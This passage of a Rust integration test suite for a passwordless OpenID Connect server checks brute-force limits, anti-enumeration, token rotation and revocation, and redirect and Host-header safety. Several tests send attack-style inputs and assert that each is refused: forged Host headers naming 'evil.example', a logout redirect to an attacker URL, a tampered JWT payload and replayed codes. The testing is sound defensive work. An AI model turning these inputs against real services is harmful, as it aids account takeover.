    assert!(short.bytes().all(|b| b.is_ascii_digit()));

    // Someone else with the short code (read over a shoulder) and even the pending cookie's
    // value, but not the browser binding: nothing happens.
    let mut other = Browser::new(&server);
    let authorize = other.get(&authorize_path(&client, &[])).await;
    other.cookies.extend(
        desktop
            .cookies
            .iter()
            .filter(|c| c.starts_with("__Host-passwordless-pending="))
            .cloned(),
    );
    let tried = other.type_short_code(&authorize.csrf(), &short).await;
    assert!(tried.location().is_none(), "{}", tried.html);

    let done = desktop.type_short_code(&asked.csrf(), &short).await;
    assert_eq!(done.status, 302, "{}", done.html);
    let location = done.location().unwrap();
    assert!(location.starts_with(CALLBACK));
    // One record: the link died with the short code.
    assert_eq!(desktop.get(&link_in(&mail)).await.status, 404);
}

#[tokio::test]
async fn s7_five_wrong_short_codes_burn_the_login_and_the_link_with_it() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "lise@example.com").await;
    let mut browser = Browser::new(&server);
    let asked = ask_for_link(&mut browser, &client, "lise@example.com", &[]).await;
    let mail = server.emails().await.pop().unwrap();
    let short = one_time_code_in(&mail);
    let wrong = if short == "000000" {
        "111111"
    } else {
        "000000"
    };
    for attempt in 1..=5 {
        let page = browser.type_short_code(&asked.csrf(), wrong).await;
        assert!(page.location().is_none());
        assert_eq!(page.status, 400, "attempt {attempt}");
        assert!(page.html.contains("not right"), "{}", page.html);
    }
    // Burnt: the right code completes nothing now, and is answered as a wrong one (N2, S9).
    let right = browser.type_short_code(&asked.csrf(), &short).await;
    assert!(right.location().is_none(), "burned: {}", right.html);
    assert_eq!(right.status, 400, "burned: {}", right.html);
    assert_eq!(browser.get(&link_in(&mail)).await.status, 404);
}

/// N2, S9: after the email form, every answer of the short-code step is the same for a known
/// address and an unknown one: a wrong code, on and after the fifth try, and a dead login.
#[tokio::test]
async fn n2_s9_the_short_code_step_answers_a_known_and_an_unknown_address_alike() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "known@example.com").await;
    let mut known = Browser::new(&server);
    let known_asked = ask_for_link(&mut known, &client, "known@example.com", &[]).await;
    let mut unknown = Browser::new(&server);
    let unknown_asked = ask_for_link(&mut unknown, &client, "nobody@example.com", &[]).await;
    let short = one_time_code_in(&server.emails().await.pop().unwrap());
    let wrong = if short == "000000" {
        "111111"
    } else {
        "000000"
    };
    for attempt in 1..=7 {
        let a = known.type_short_code(&known_asked.csrf(), wrong).await;
        let b = unknown.type_short_code(&unknown_asked.csrf(), wrong).await;
        assert_eq!(a.status, b.status, "attempt {attempt}");
        assert_eq!(strip(&a.html), strip(&b.html), "attempt {attempt}");
    }
    // And the real code of the burnt login is answered as the decoy's is.
    let a = known.type_short_code(&known_asked.csrf(), &short).await;
    let b = unknown.type_short_code(&unknown_asked.csrf(), &short).await;
    assert_eq!((a.status, strip(&a.html)), (b.status, strip(&b.html)));
}

/// N3, S33: wrong short codes are held back per source, not per account: a source that typed
/// thirty waits ten minutes whatever address it names (a decoy's alike, S9), and the owner, at
/// another source, signs in with the short code meanwhile.
#[tokio::test]
async fn n3_s33_wrong_short_codes_hold_back_their_source_and_never_the_owner() {
    let server = TestServer::start_behind_proxy().await;
    let client = relying_party(&server, json!({}), "owner@example.com").await;
    let mut attacker = Browser::at(&server, "198.51.100.66");
    let mut answers = Vec::new();
    for round in 0..7 {
        // Alternately the owner's address and an unknown one: the source's count is one.
        let email = if round % 2 == 0 {
            "owner@example.com"
        } else {
            "nobody@example.com"
        };
        let asked = ask_for_link(&mut attacker, &client, email, &[]).await;
        for _ in 0..5 {
            let page = attacker.type_short_code(&asked.csrf(), "000000").await;
            answers.push((page.status, page.html.contains("Too many wrong codes")));
        }
    }
    assert!(
        answers[..30].iter().all(|a| *a == (400, false)),
        "{answers:?}"
    );
    assert!(
        answers[30..].iter().all(|a| *a == (429, true)),
        "{answers:?}"
    );
    // The owner, elsewhere, is not held: the short code signs in.
    let mut owner = Browser::at(&server, "203.0.113.5");
    let asked = ask_for_link(&mut owner, &client, "owner@example.com", &[]).await;
    let short = one_time_code_in(&server.emails().await.pop().unwrap());
    let done = owner.type_short_code(&asked.csrf(), &short).await;
    assert_eq!(done.status, 302, "{}", done.html);
    // The held source's own live login is not spent while it waits, and works after.
    let asked = ask_for_link(&mut attacker, &client, "owner@example.com", &[]).await;
    let short = one_time_code_in(&server.emails().await.pop().unwrap());
    let held = attacker.type_short_code(&asked.csrf(), &short).await;
    assert_eq!(held.status, 429);
    server.clock.advance_secs(600);
    let asked = ask_for_link(&mut attacker, &client, "owner@example.com", &[]).await;
    let short = one_time_code_in(&server.emails().await.pop().unwrap());
    assert_eq!(
        attacker.type_short_code(&asked.csrf(), &short).await.status,
        302
    );
}

/// N13, S14: a login asked for on the hosted page is bound to the browser that asked; the
/// link's code with the right short code is refused by `/api/passwordless/login`, counts no
/// try, and the short code still signs in where it was asked for.
#[tokio::test]
async fn n13_s14_a_browser_bound_code_is_not_redeemed_through_the_api() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "bound@example.com").await;
    let mut browser = Browser::new(&server);
    let asked = ask_for_link(&mut browser, &client, "bound@example.com", &[]).await;
    let mail = server.emails().await.pop().unwrap();
    let short = one_time_code_in(&mail);
    let link = link_in(&mail);
    let code = link
        .split('?')
        .next()
        .unwrap()
        .rsplit('/')
        .next()
        .unwrap()
        .to_owned();
    for _ in 0..5 {
        server
            .login(json!({"code": code, "oneTimeCode": short}))
            .await
            .assert_status(404);
        server.login(json!({"code": code})).await.assert_status(404);
    }
    let done = browser.type_short_code(&asked.csrf(), &short).await;
    assert_eq!(done.status, 302, "{}", done.html);
}

/// N16: the page behind the link of an API-started login that wants its short code asks for
/// the code; Continue without it spends nothing, a wrong one is told as such while the login
/// lives, and the right one signs in.
#[tokio::test]
async fn n16_an_api_started_short_code_link_asks_for_the_code_and_spends_nothing_without_it() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "form@example.com").await;
    let state = authorization_state(&client.id, json!({}));
    let started = server
        .start_login(
            &client.id,
            "form@example.com",
            json!({"state": state, "loginStrategy": "FormField"}),
        )
        .await
        .json();
    let code = started["code"].as_str().unwrap();
    let short = started["oneTimeCode"].as_str().unwrap();
    let link = format!("/oauth2/passwordless/{code}");
    let mut browser = Browser::new(&server);
    let page = browser.get(&link).await;
    assert_eq!(page.status, 200);
    assert!(page.html.contains("name=\"code\""), "{}", page.html);
    for _ in 0..6 {
        let page = browser.get(&link).await;
        let again = browser.post_form(&link, &[("csrf", &page.csrf())]).await;
        assert_eq!(again.status, 400, "{}", again.html);
        assert!(again.html.contains("name=\"code\""));
    }
    let wrong = if short == "000000" {
        "111111"
    } else {
        "000000"
    };
    let page = browser.get(&link).await;
    let refused = browser
        .post_form(&link, &[("csrf", &page.csrf()), ("code", wrong)])
        .await;
    assert_eq!(refused.status, 400);
    assert!(refused.html.contains("not right"), "{}", refused.html);
    let page = browser.get(&link).await;
    let done = browser
        .post_form(&link, &[("csrf", &page.csrf()), ("code", short)])
        .await;
    assert_eq!(done.status, 302, "{}", done.html);
    assert!(done.location().unwrap().starts_with(CALLBACK));
}

/// N8: one address is sent at most twenty sign-in mails an hour from all sources together;
/// a source the owner signed in from before is not held by that ceiling, and the hour ends it.
#[tokio::test]
async fn n8_an_address_gets_at_most_twenty_mails_an_hour_but_its_owners_network_is_not_held() {
    let server = TestServer::start_behind_proxy().await;
    let client = relying_party(&server, json!({}), "inbox@example.com").await;
    let mut owner = Browser::at(&server, "203.0.113.9");
    let asked = ask_for_link(&mut owner, &client, "inbox@example.com", &[]).await;
    let short = one_time_code_in(&server.emails().await.pop().unwrap());
    assert_eq!(
        owner.type_short_code(&asked.csrf(), &short).await.status,
        302
    );
    let mut statuses = Vec::new();
    for i in 0..21 {
        // Each source within its own limit; the minute limit of all sources (fifty) too.
        if i % 5 == 4 {
            server.clock.advance_secs(61);
        }
        let mut browser = Browser::at(&server, &format!("198.51.100.{}", 100 + i));
        statuses.push(
            ask_for_link(&mut browser, &client, "inbox@example.com", &[])
                .await
                .status,
        );
    }
    assert_eq!(statuses[..19], [200; 19], "{statuses:?}");
    assert_eq!(statuses[19..], [429, 429], "{statuses:?}");
    assert_eq!(server.emails().await.len(), 20);
    let mut again = Browser::at(&server, "203.0.113.9");
    assert_eq!(
        ask_for_link(&mut again, &client, "inbox@example.com", &[])
            .await
            .status,
        200
    );
    server.clock.advance_secs(3600);
    let mut later = Browser::at(&server, "198.51.100.250");
    assert_eq!(
        ask_for_link(&mut later, &client, "inbox@example.com", &[])
            .await
            .status,
        200
    );
}

/// The seed's flow up to the token response (with `offline_access`, so a refresh token).
async fn tokens_for(server: &TestServer, client: &RelyingParty) -> (String, Value) {
    let code = client.authorization_code(server, json!({})).await;
    let (status, tokens) = token_request(
        server,
        &[
            ("grant_type", "authorization_code"),
            ("code", &code),
            ("redirect_uri", CALLBACK),
        ],
        Some((&client.id, &client.secret)),
    )
    .await;
    assert_eq!(status, 200, "{tokens}");
    (code, tokens)
}

async fn refresh(server: &TestServer, client: &RelyingParty, token: &str) -> (u16, Value) {
    token_request(
        server,
        &[("grant_type", "refresh_token"), ("refresh_token", token)],
        Some((&client.id, &client.secret)),
    )
    .await
}

#[tokio::test]
async fn s20_refresh_tokens_rotate_and_a_reused_one_revokes_its_family() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "frances@example.com").await;
    let (_, tokens) = tokens_for(&server, &client).await;
    let first = tokens["refresh_token"].as_str().unwrap().to_owned();

    let (status, rotated) = refresh(&server, &client, &first).await;
    assert_eq!(status, 200, "{rotated}");
    let second = rotated["refresh_token"].as_str().unwrap().to_owned();
    assert_ne!(second, first);
    let claims = verified_claims(
        &server,
        rotated["access_token"].as_str().unwrap(),
        &client.id,
    )
    .await;
    assert_eq!(claims["sub"], client.user.as_str());
    // The session id stays the same across rotations: it names the sign-in, not the token.
    let first_claims = verified_claims(
        &server,
        tokens["access_token"].as_str().unwrap(),
        &client.id,
    )
    .await;
    assert!(first_claims["sid"].is_string());
    assert_eq!(claims["sid"], first_claims["sid"]);

    // The first token again: a thief or a replay. The whole family dies, the newest too.
    let (status, reused) = refresh(&server, &client, &first).await;
    assert_eq!(
        (status, reused["error"].as_str()),
        (400, Some("invalid_grant"))
    );
    let (status, after) = refresh(&server, &client, &second).await;
    assert_eq!(
        (status, after["error"].as_str()),
        (400, Some("invalid_grant"))
    );
}

/// N5, S35: a refresh token the token endpoint gave a confidential client is redeemed only
/// there, by that client with its secret: `/api/jwt/refresh` and the client without its secret
/// are refused, and the refusals spend nothing.
#[tokio::test]
async fn n5_s35_a_confidential_clients_refresh_token_needs_the_clients_secret() {
    let server = TestServer::start().await;
    let client = relying_party(
        &server,
        json!({"clientAuthenticationPolicy": "NotRequiredWhenUsingPKCE"}),
        "nils@example.com",
    )
    .await;
    let (_, tokens) = tokens_for(&server, &client).await;
    let token = tokens["refresh_token"].as_str().unwrap().to_owned();
    server
        .post("/api/jwt/refresh", None, json!({"refreshToken": token}))
        .await
        .assert_status(404);
    let (status, refused) = token_request(
        &server,
        &[
            ("grant_type", "refresh_token"),
            ("refresh_token", &token),
            ("client_id", &client.id),
        ],
        None,
    )
    .await;
    assert_eq!(status, 400, "{refused}");
    assert_eq!(refused["error"], "invalid_grant");
    let (status, rotated) = refresh(&server, &client, &token).await;
    assert_eq!(status, 200, "{rotated}");
    // The successor is bound alike.
    let next = rotated["refresh_token"].as_str().unwrap();
    server
        .post("/api/jwt/refresh", None, json!({"refreshToken": next}))
        .await
        .assert_status(404);
}

/// N19, S35: rotation does not extend a sign-in: every token of a family ends when the first
/// one would have (the tenant's refresh lifetime, thirty days by default).
#[tokio::test]
async fn n19_s35_a_refresh_family_ends_with_its_first_tokens_lifetime() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "olga@example.com").await;
    let (_, tokens) = tokens_for(&server, &client).await;
    let mut token = tokens["refresh_token"].as_str().unwrap().to_owned();
    for _ in 0..29 {
        server.clock.advance_secs(24 * 3600);
        let (status, rotated) = refresh(&server, &client, &token).await;
        assert_eq!(status, 200, "{rotated}");
        token = rotated["refresh_token"].as_str().unwrap().to_owned();
    }
    server.clock.advance_secs(24 * 3600 + 1);
    let (status, ended) = refresh(&server, &client, &token).await;
    assert_eq!(
        (status, ended["error"].as_str()),
        (400, Some("invalid_grant"))
    );
}

#[tokio::test]
async fn s18_a_replayed_authorization_code_revokes_the_tokens_it_produced() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "shafi@example.com").await;
    let (code, tokens) = tokens_for(&server, &client).await;
    let refresh_token = tokens["refresh_token"].as_str().unwrap().to_owned();
    let (status, replay) = token_request(
        &server,
        &[
            ("grant_type", "authorization_code"),
            ("code", &code),
            ("redirect_uri", CALLBACK),
        ],
        Some((&client.id, &client.secret)),
    )
    .await;
    assert_eq!(
        (status, replay["error"].as_str()),
        (400, Some("invalid_grant"))
    );
    let (status, revoked) = refresh(&server, &client, &refresh_token).await;
    assert_eq!(
        (status, revoked["error"].as_str()),
        (400, Some("invalid_grant"))
    );
}

#[tokio::test]
async fn a_passwordless_logins_refresh_token_works_at_the_token_endpoint() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "joan@example.com").await;
    let code = server.code(&client.id, "joan@example.com").await;
    let login = server.login(json!({"code": code})).await;
    login.assert_status(200);
    let refresh_token = login.json()["refreshToken"].as_str().unwrap().to_owned();
    let (status, tokens) = refresh(&server, &client, &refresh_token).await;
    assert_eq!(status, 200, "{tokens}");
    assert_eq!(tokens["userId"], client.user.as_str());
    // Another client cannot use it.
    let other = relying_party(&server, json!({}), "other@example.com").await;
    let (status, body) = refresh(&server, &other, tokens["refresh_token"].as_str().unwrap()).await;
    assert_eq!(
        (status, body["error"].as_str()),
        (400, Some("invalid_grant"))
    );
}

#[tokio::test]
async fn discovery_documents_name_each_tenants_issuer_endpoints_and_keys() {
    let server = TestServer::start().await;
    let response = reqwest::get(format!("{}/.well-known/openid-configuration", server.base))
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let document: Value = response.json().await.unwrap();
    assert_eq!(document["issuer"], PUBLIC_URL);
    assert_eq!(
        document["authorization_endpoint"],
        format!("{PUBLIC_URL}/oauth2/authorize")
    );
    assert_eq!(
        document["token_endpoint"],
        format!("{PUBLIC_URL}/oauth2/token")
    );
    // N14: the default tenant's discovery names its own key set, not every tenant's.
    assert_eq!(
        document["jwks_uri"],
        format!(
            "{PUBLIC_URL}/{}/.well-known/jwks.json",
            server.default_tenant()
        )
    );
    let own_keys = server
        .get(
            &format!("/{}/.well-known/jwks.json", server.default_tenant()),
            None,
        )
        .await;
    own_keys.assert_status(200);
    assert!(!own_keys.json()["keys"].as_array().unwrap().is_empty());
    assert_eq!(
        document["code_challenge_methods_supported"],
        json!(["S256"])
    );
    assert_eq!(
        document["authorization_response_iss_parameter_supported"],
        true
    );

    let tenant = server.tenant("Acme").await;
    let own: Value = reqwest::get(format!(
        "{}/{tenant}/.well-known/openid-configuration",
        server.base
    ))
    .await
    .unwrap()
    .json()
    .await
    .unwrap();
    // Discovery sits at the issuer's /.well-known path, as OIDC clients check.
    assert_eq!(own["issuer"], format!("{PUBLIC_URL}/{tenant}"));
    assert_eq!(
        own["jwks_uri"],
        format!("{PUBLIC_URL}/{tenant}/.well-known/jwks.json")
    );
    let unknown = reqwest::get(format!(
        "{}/00000000-0000-4000-8000-000000000000/.well-known/openid-configuration",
        server.base
    ))
    .await
    .unwrap();
    assert_eq!(unknown.status(), 404);
}

/// OpenID Connect Core 5.3.1: the UserInfo endpoint takes POST as well as GET; RFC 6750 2.2
/// lets a POST carry the token in its form instead of the header, but not both ways.
#[tokio::test]
async fn userinfo_answers_a_post_with_the_token_in_the_header_or_the_form() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "gilfoyle@example.com").await;
    let (_, tokens) = tokens_for(&server, &client).await;
    let access = tokens["access_token"].as_str().unwrap().to_owned();
    let post = |authorization: Option<String>, form: &str| {
        let mut request = reqwest::Client::new()
            .post(format!("{}/oauth2/userinfo", server.base))
            .header("Content-Type", "application/x-www-form-urlencoded")
            .body(form.to_owned());
        if let Some(authorization) = authorization {
            request = request.header("Authorization", authorization);
        }
        async move {
            let response = request.send().await.unwrap();
            let status = response.status().as_u16();
            let no_store = response.headers().get("cache-control").cloned();
            (status, no_store, response.json::<Value>().await.unwrap())
        }
    };
    let (status, no_store, info) = post(Some(format!("Bearer {access}")), "").await;
    assert_eq!(status, 200, "{info}");
    assert_eq!(info["sub"], client.user.as_str());
    assert_eq!(no_store.unwrap(), "no-store");
    let (status, _, info) = post(None, &format!("access_token={access}")).await;
    assert_eq!(status, 200, "{info}");
    assert_eq!(info["email"], "gilfoyle@example.com");
    let (status, _, body) = post(
        Some(format!("Bearer {access}")),
        &format!("access_token={access}"),
    )
    .await;
    assert_eq!(
        (status, body["error"].as_str()),
        (401, Some("invalid_token"))
    );
}

/// RFC 9110 15.5.6: a 405 names the methods the resource has.
#[tokio::test]
async fn a_405_says_which_methods_the_path_has() {
    let server = TestServer::start().await;
    for (method, path, allow) in [
        ("DELETE", "/api/passwordless/start", "POST"),
        ("PUT", "/oauth2/token", "POST"),
        ("POST", "/.well-known/jwks.json", "GET, HEAD"),
        ("PUT", "/oauth2/userinfo", "GET, HEAD, POST"),
    ] {
        let response = reqwest::Client::new()
            .request(
                reqwest::Method::from_bytes(method.as_bytes()).unwrap(),
                format!("{}{path}", server.base),
            )
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 405, "{method} {path}");
        assert_eq!(
            response.headers().get("allow").unwrap(),
            allow,
            "{method} {path}"
        );
    }
}

#[tokio::test]
async fn userinfo_answers_a_live_access_token_and_refuses_anything_else() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "annie@example.com").await;
    let (_, tokens) = tokens_for(&server, &client).await;
    let access = tokens["access_token"].as_str().unwrap().to_owned();
    let userinfo = |authorization: String| {
        let url = format!("{}/oauth2/userinfo", server.base);
        async move {
            let response = reqwest::Client::new()
                .get(url)
                .header("Authorization", authorization)
                .send()
                .await
                .unwrap();
            let status = response.status().as_u16();
            (status, response.json::<Value>().await.unwrap())
        }
    };
    let (status, info) = userinfo(format!("Bearer {access}")).await;
    assert_eq!(status, 200, "{info}");
    assert_eq!(info["sub"], client.user.as_str());
    assert_eq!(info["email"], "annie@example.com");
    assert_eq!(info["email_verified"], true);
    // A changed payload breaks the signature; another scheme is no bearer token.
    let mut parts: Vec<String> = access.split('.').map(str::to_owned).collect();
    parts[1] = URL_SAFE_NO_PAD.encode(br#"{"sub":"x","tid":"y"}"#);
    let (status, body) = userinfo(format!("Bearer {}", parts.join("."))).await;
    assert_eq!(
        (status, body["error"].as_str()),
        (401, Some("invalid_token"))
    );
    let (status, _) = userinfo(format!("Basic {access}")).await;
    assert_eq!(status, 401);
    // An hour on, the token has expired.
    server.clock.advance_secs(3601);
    let (status, _) = userinfo(format!("Bearer {access}")).await;
    assert_eq!(status, 401);
}

/// N6, S35: an id token, signed by the same key as the access token, is not an access token:
/// userinfo, `/api/jwt/validate` and introspection refuse it and take the access token, which
/// says what it is (`tty: at`, as FusionAuth's access tokens do).
#[tokio::test]
async fn n6_s35_an_id_token_is_never_taken_for_an_access_token() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "ivo@example.com").await;
    let (_, tokens) = tokens_for(&server, &client).await;
    let access = tokens["access_token"].as_str().unwrap();
    let id_token = tokens["id_token"].as_str().unwrap();
    let claims = verified_claims(&server, access, &client.id).await;
    assert_eq!(claims["tty"], "at");
    for (token, expected) in [(access, 200), (id_token, 401)] {
        let userinfo = reqwest::Client::new()
            .get(format!("{}/oauth2/userinfo", server.base))
            .header("Authorization", format!("Bearer {token}"))
            .send()
            .await
            .unwrap();
        assert_eq!(userinfo.status().as_u16(), expected, "userinfo");
        let validate = reqwest::Client::new()
            .get(format!("{}/api/jwt/validate", server.base))
            .header("Authorization", format!("Bearer {token}"))
            .send()
            .await
            .unwrap();
        assert_eq!(validate.status().as_u16(), expected, "/api/jwt/validate");
        let introspected = reqwest::Client::new()
            .post(format!("{}/oauth2/introspect", server.base))
            .basic_auth(&client.id, Some(&client.secret))
            .form(&[("token", token)])
            .send()
            .await
            .unwrap()
            .json::<Value>()
            .await
            .unwrap();
        assert_eq!(introspected["active"], expected == 200, "introspection");
    }
}

#[tokio::test]
async fn s13_a_forged_host_header_changes_no_link_the_hosted_pages_send() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "ada.host@example.com").await;
    let mut browser = Browser::new(&server);
    let authorize = browser
        .send(
            browser
                .client
                .get(format!("{}{}", server.base, authorize_path(&client, &[])))
                .header("Host", "evil.example")
                .header("X-Forwarded-Host", "evil.example"),
        )
        .await;
    assert_eq!(authorize.status, 200);
    let form = request_form(&authorize, "ada.host@example.com");
    let body = form_urlencoded::Serializer::new(String::new())
        .extend_pairs(&form)
        .finish();
    let asked = browser
        .send(
            browser
                .client
                .post(format!("{}/oauth2/passwordless", server.base))
                .header("Host", "evil.example")
                .header("X-Forwarded-Host", "evil.example")
                .header("Content-Type", "application/x-www-form-urlencoded")
                .body(body),
        )
        .await;
    assert_eq!(asked.status, 200, "{}", asked.html);
    let mail = server.emails().await.pop().unwrap();
    assert!(!mail.html.contains("evil.example"), "{}", mail.html);
    assert!(link_in(&mail).starts_with("/oauth2/passwordless/"));
}

#[tokio::test]
async fn logout_ends_the_session_and_redirects_only_to_an_allowed_uri() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "grace.logout@example.com").await;
    let (_, tokens) = tokens_for(&server, &client).await;
    let id_token = tokens["id_token"].as_str().unwrap().to_owned();
    let mut browser = Browser::new(&server);
    let elsewhere = browser
        .get(&format!(
            "/oauth2/logout?client_id={}&post_logout_redirect_uri={}",
            client.id,
            form_urlencoded::byte_serialize(b"https://evil.example/").collect::<String>()
        ))
        .await;
    assert_eq!(elsewhere.status, 200, "not sent to an unknown URI");
    assert!(elsewhere.location().is_none());
    assert!(elsewhere.html.contains("signed out"), "{}", elsewhere.html);

    let query = form_urlencoded::Serializer::new(String::new())
        .append_pair("id_token_hint", &id_token)
        .append_pair("post_logout_redirect_uri", CALLBACK)
        .append_pair("state", "bye")
        .finish();
    let out = browser.get(&format!("/oauth2/logout?{query}")).await;
    assert_eq!(out.status, 302);
    assert_eq!(out.location().unwrap(), format!("{CALLBACK}?state=bye"));
    // The session's refresh tokens are gone.
    let (status, body) = refresh(&server, &client, tokens["refresh_token"].as_str().unwrap()).await;
    assert_eq!(
        (status, body["error"].as_str()),
        (400, Some("invalid_grant"))
    );
}

#[tokio::test]
async fn introspection_tells_a_client_about_its_own_live_tokens_only() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "hopper@example.com").await;
    let other = relying_party(&server, json!({}), "other.hopper@example.com").await;
    let (_, tokens) = tokens_for(&server, &client).await;
    let access = tokens["access_token"].as_str().unwrap();
    let introspect = |who: &RelyingParty, token: &str| {
        let body = form_urlencoded::Serializer::new(String::new())
            .append_pair("token", token)
            .finish();
        let request = reqwest::Client::new()
            .post(format!("{}/oauth2/introspect", server.base))
            .header("Content-Type", "application/x-www-form-urlencoded")
            .header(
                "Authorization",
                format!(
                    "Basic {}",
                    STANDARD.encode(format!("{}:{}", who.id, who.secret))
                ),
            )
            .body(body);
        async move {
            let response = request.send().await.unwrap();
            (
                response.status().as_u16(),
                response.json::<Value>().await.unwrap(),
            )
        }
    };
    let (status, mine) = introspect(&client, access).await;
    assert_eq!(status, 200);
    assert_eq!(mine["active"], true);
    assert_eq!(mine["sub"], client.user.as_str());
    let (_, theirs) = introspect(&other, access).await;
    assert_eq!(theirs, json!({"active": false}));
    let (_, garbage) = introspect(&client, "not-a-token").await;
    assert_eq!(garbage, json!({"active": false}));
    server.clock.advance_secs(3601);
    let (_, expired) = introspect(&client, access).await;
    assert_eq!(expired, json!({"active": false}));
    let stranger = RelyingParty {
        id: client.id.clone(),
        secret: "wrong-secret-wrong-secret-wrong-secret".into(),
        email: "x@example.com",
        user: String::new(),
    };
    let (status, refused) = introspect(&stranger, access).await;
    assert_eq!(
        (status, refused["error"].as_str()),
        (401, Some("invalid_client"))
    );
}

/// An HTTP client for the OpenID Connect library that reaches this server wherever the
/// provider's documents point, as DNS would: the public URL's origin is the test server.
fn oidc_http(
    server: &TestServer,
) -> impl Fn(
    openidconnect::HttpRequest,
) -> std::pin::Pin<
    Box<dyn std::future::Future<Output = Result<openidconnect::HttpResponse, reqwest::Error>>>,
> {
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let base = server.base.clone();
    move |request| {
        let client = client.clone();
        let url = request.uri().to_string().replacen(PUBLIC_URL, &base, 1);
        Box::pin(async move {
            let mut outgoing = client
                .request(request.method().clone(), url)
                .body(request.body().clone());
            for (name, value) in request.headers() {
                outgoing = outgoing.header(name, value);
            }
            let response = outgoing.send().await?;
            let mut incoming = http::Response::builder().status(response.status());
            for (name, value) in response.headers() {
                incoming = incoming.header(name, value);
            }
            let body = response.bytes().await?.to_vec();
            Ok(incoming.body(body).unwrap())
        })
    }
}

/// The test server's clock, for checking its tokens' times.
fn server_time(server: &TestServer) -> chrono::DateTime<chrono::Utc> {
    use passwordless::ports::Clock;
    chrono::DateTime::from_timestamp_millis(server.clock.now().as_millis()).unwrap()
}

#[tokio::test]
async fn a_relying_party_built_on_the_openidconnect_crate_signs_in_with_pkce_and_refreshes() {
    use openidconnect::core::{CoreAuthenticationFlow, CoreClient, CoreProviderMetadata};
    use openidconnect::{
        AccessTokenHash, AuthorizationCode, ClientId, CsrfToken, IssuerUrl, Nonce,
        OAuth2TokenResponse, PkceCodeChallenge, RedirectUrl, Scope, SubjectIdentifier,
        TokenResponse,
    };

    let server = TestServer::start().await;
    let party = relying_party(
        &server,
        json!({"clientAuthenticationPolicy": "NotRequiredWhenUsingPKCE"}),
        "grace@example.com",
    )
    .await;
    let http = oidc_http(&server);

    // Discovery (and the keys it points at), then a public client that uses PKCE S256.
    let metadata =
        CoreProviderMetadata::discover_async(IssuerUrl::new(PUBLIC_URL.to_owned()).unwrap(), &http)
            .await
            .unwrap();
    let client =
        CoreClient::from_provider_metadata(metadata, ClientId::new(party.id.clone()), None)
            .set_redirect_uri(RedirectUrl::new(CALLBACK.to_owned()).unwrap());
    let (challenge, verifier) = PkceCodeChallenge::new_random_sha256();
    let (authorize_url, csrf, nonce) = client
        .authorize_url(
            CoreAuthenticationFlow::AuthorizationCode,
            CsrfToken::new_random,
            Nonce::new_random,
        )
        .add_scope(Scope::new("offline_access".to_owned()))
        .set_pkce_challenge(challenge)
        .url();

    // The person: the authorize page, the email, the link in the same browser.
    let mut browser = Browser::new(&server);
    let path = authorize_url.as_str().strip_prefix(PUBLIC_URL).unwrap();
    let authorize = browser.get(path).await;
    assert_eq!(authorize.status, 200, "{}", authorize.html);
    let form = request_form(&authorize, party.email);
    let asked = browser
        .post_form("/oauth2/passwordless", &pairs_of(&form))
        .await;
    assert_eq!(asked.status, 200, "{}", asked.html);
    let link = link_in(server.emails().await.last().unwrap());
    let landed = continue_from(&mut browser, &link).await;
    let location = landed.location().expect("a redirect to the client");
    assert!(location.starts_with(CALLBACK), "{location}");
    assert_eq!(
        parameter(&location, "state").as_deref(),
        Some(csrf.secret().as_str())
    );
    let code = parameter(&location, "code").unwrap();

    // The library exchanges the code with the verifier and verifies the id token: signature
    // against the discovered keys, issuer, audience, expiry (on the server's clock), nonce.
    let tokens = client
        .exchange_code(AuthorizationCode::new(code))
        .unwrap()
        .set_pkce_verifier(verifier)
        .request_async(&http)
        .await
        .unwrap();
    let id_token_verifier = client
        .id_token_verifier()
        .set_time_fn(|| server_time(&server));
    let id_token = tokens.id_token().expect("an id token for the openid scope");
    let claims = id_token.claims(&id_token_verifier, &nonce).unwrap();
    assert_eq!(claims.subject().as_str(), party.user);
    let at_hash = claims.access_token_hash().expect("at_hash");
    let actual = AccessTokenHash::from_token(
        tokens.access_token(),
        id_token.signing_alg().unwrap(),
        id_token.signing_key(&id_token_verifier).unwrap(),
    )
    .unwrap();
    assert_eq!(&actual, at_hash);

    // Userinfo answers for the same subject.
    let info: openidconnect::core::CoreUserInfoClaims = client
        .user_info(
            tokens.access_token().clone(),
            Some(SubjectIdentifier::new(party.user.clone())),
        )
        .unwrap()
        .request_async(&http)
        .await
        .unwrap();
    assert_eq!(info.subject().as_str(), party.user);

    // A refresh gives new tokens and a new refresh token; the old one is spent.
    let refresh_token = tokens
        .refresh_token()
        .expect("a refresh token for offline_access");
    let refreshed = client
        .exchange_refresh_token(refresh_token)
        .unwrap()
        .request_async(&http)
        .await
        .unwrap();
    assert_ne!(
        refreshed.access_token().secret(),
        tokens.access_token().secret()
    );
    let rotated = refreshed.refresh_token().expect("a rotated refresh token");
    assert_ne!(rotated.secret(), refresh_token.secret());
    if let Some(id_token) = refreshed.id_token() {
        let claims = id_token
            .claims(&id_token_verifier, |_: Option<&Nonce>| Ok(()))
            .unwrap();
        assert_eq!(claims.subject().as_str(), party.user);
    }
}

fn pairs_of(form: &[(String, String)]) -> Vec<(&str, &str)> {
    form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect()
}

#[tokio::test]
async fn a_tenant_may_let_a_hosted_link_finish_in_another_browser_once_the_person_confirms() {
    let server = TestServer::start().await;
    server
        .patch_default_tenant(
            json!({"tenant": {"hostedPagesConfiguration": {"finishInOtherBrowser": true}}}),
        )
        .await;
    let client = relying_party(&server, json!({}), "hedy@example.com").await;
    let mut asking = Browser::new(&server);
    ask_for_link(&mut asking, &client, "hedy@example.com", &[]).await;
